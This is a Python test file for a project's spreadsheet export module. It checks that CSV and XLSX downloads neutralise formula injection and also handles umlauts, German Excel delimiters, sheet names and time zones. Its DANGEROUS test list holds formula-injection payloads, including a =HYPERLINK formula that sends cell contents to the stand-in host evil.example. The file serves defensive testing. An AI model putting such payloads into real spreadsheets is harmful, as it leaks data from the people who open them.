"""Downloads open safely in spreadsheet programs: formulas neutralised, umlauts intact."""

import codecs
import io

import pandas as pd

from tonlage.export import csv_bytes, neutralise_formulas

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1", "-cmd", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_formula_cells_get_an_apostrophe_and_the_rest_is_unchanged():
    df = pd.DataFrame({"text": DANGEROUS + ["Grüße aus Köln"], "tone": [-0.42, 0.1, 1, 2, 3, 4, 5]})
    out = neutralise_formulas(df)
    assert list(out["text"]) == ["'" + v for v in DANGEROUS] + ["Grüße aus Köln"]
    assert out["tone"].dtype == float and out["tone"].iloc[0] == -0.42
    assert df["text"].iloc[0] == DANGEROUS[0]  # the original is not changed


def test_column_names_are_neutralised_too():
    out = neutralise_formulas(pd.DataFrame({"=cmd": ["a"], "Titel": ["b"], 3: ["c"]}))
    assert list(out.columns) == ["'=cmd", "Titel", 3]


def test_non_text_cells_in_mixed_columns_are_left_alone():
    df = pd.DataFrame({"mixed": [-1, "-1", None, 2.5, "=A1"]})
    assert neutralise_formulas(df)["mixed"].tolist() == [-1, "'-1", None, 2.5, "'=A1"]


def test_string_and_categorical_columns():
    df = pd.DataFrame(
        {
            "s": pd.Series(["=1", "ok", None], dtype="string"),
            "c": pd.Categorical(["+x", "y", "+x"]),
            "d": pd.Categorical(["a", "b", "a"]),
        }
    )
    out = neutralise_formulas(df)
    assert out["s"].tolist()[:2] == ["'=1", "ok"] and pd.isna(out["s"].iloc[2])
    assert out["c"].tolist() == ["'+x", "y", "'+x"]
    assert isinstance(out["d"].dtype, pd.CategoricalDtype)  # nothing to change: left as it was


def test_csv_bytes_has_a_bom_and_round_trips_umlauts():
    df = pd.DataFrame({"Titel": ["Grüße aus München", "-Straße"], "Ton": [-0.42, 0.5]})
    data = csv_bytes(df)
    assert data.startswith(codecs.BOM_UTF8)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["Titel"].tolist() == ["Grüße aus München", "'-Straße"]
    assert back["Ton"].tolist() == [-0.42, 0.5]
    assert list(back.columns) == ["Titel", "Ton"]


def test_csv_bytes_for_a_german_reader_are_what_german_excel_reads():
    # Semicolons between fields and a decimal comma: a comma-separated file opened with a
    # double click in Excel set to German puts every column into the first.
    df = pd.DataFrame({"Titel": ["Gipfel, Alaska"], "Ton": [-0.42], "Tag": ["2025-08-15"]})
    text = csv_bytes(df, lang="de").decode("utf-8-sig")
    assert text.splitlines() == ["Titel;Ton;Tag", "Gipfel, Alaska;-0,42;2025-08-15"]
    back = pd.read_csv(io.StringIO(text), sep=";", decimal=",")
    assert back["Ton"].tolist() == [-0.42] and back["Titel"].tolist() == ["Gipfel, Alaska"]
    assert csv_bytes(df) == csv_bytes(df, lang="en") == csv_bytes(df, lang="xx")  # the default: commas, points
    assert csv_bytes(df).decode("utf-8-sig").splitlines()[1] == '"Gipfel, Alaska",-0.42,2025-08-15'


def test_csv_bytes_neutralises_formulas_and_writes_no_index():
    text = csv_bytes(pd.DataFrame({"a": ['=HYPERLINK("x")', "@SUM(1)"]}, index=[7, 8])).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "a"
    assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "'@SUM(1)"


def test_columns_without_any_text_are_left_alone():
    import datetime as dt

    df = pd.DataFrame(
        {
            "d": [dt.date(2025, 1, 1), None],
            "n": [None, None],
            "l": [[1], [2]],
            "e": pd.Series([], dtype=object).reindex(range(2)),
        }
    )
    out = neutralise_formulas(df)
    assert out["d"].tolist() == df["d"].tolist() and out["l"].tolist() == [[1], [2]]


# --- Excel -----------------------------------------------------------------------------------


def _sheet(data: bytes):
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    assert len(book.worksheets) == 1
    return book.worksheets[0]


def test_xlsx_neutralises_formulas_and_keeps_numbers_and_umlauts():
    from tonlage.export import xlsx_bytes

    df = pd.DataFrame({"Titel": ["=1+1", "Grüße aus München", DANGEROUS[0]], "Ton": [-0.42, 0.5, 1.0], "n": [3, 4, 5]})
    ws = _sheet(xlsx_bytes(df))
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("Titel", "Ton", "n")
    assert rows[1] == ("'=1+1", -0.42, 3)  # text, and the number is still a number
    assert rows[2][0] == "Grüße aus München" and rows[3][0] == "'" + DANGEROUS[0]
    assert isinstance(rows[1][1], float) and isinstance(rows[1][2], int)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula anywhere
    assert ws.freeze_panes == "A2"


def test_xlsx_sheet_names_follow_excels_rules():
    from tonlage.export import excel_sheet_name, xlsx_bytes

    ws = _sheet(xlsx_bytes(pd.DataFrame({"a": [1]}), sheet_name="Ton: [2025/26] *Entwurf?* \\ sehr langer Name"))
    assert len(ws.title) <= 31 and not set(ws.title) & set("[]:*?/\\")
    assert ws.title.startswith("Ton_ _2025_26_")
    assert excel_sheet_name("") == "data" and excel_sheet_name("'''") == "data"
    assert excel_sheet_name("'Zitate'") == "Zitate" and excel_sheet_name("History") == "History_"


def test_xlsx_makes_time_zones_naive_and_cleans_what_excel_cannot_hold():
    from tonlage.export import xlsx_bytes

    when = pd.Timestamp("2025-08-15 10:30", tz="Europe/Berlin")
    df = pd.DataFrame(
        {
            "date": [when, when],
            "mixed": [when, "x"],
            "text": ["a\x00b\x07c", "y" * 40_000],
            "terms": [["Gipfel", "Putin"], {"a": 1}],
        }
    )
    rows = list(_sheet(xlsx_bytes(df)).iter_rows(values_only=True))
    assert rows[1][0] == when.tz_localize(None).to_pydatetime()  # local time, zone dropped
    assert rows[1][1] == when.tz_localize(None).to_pydatetime()
    assert rows[1][2] == "abc" and len(rows[2][2]) == 32_767 and rows[2][2].endswith("…")
    assert rows[1][3] == "['Gipfel', 'Putin']"
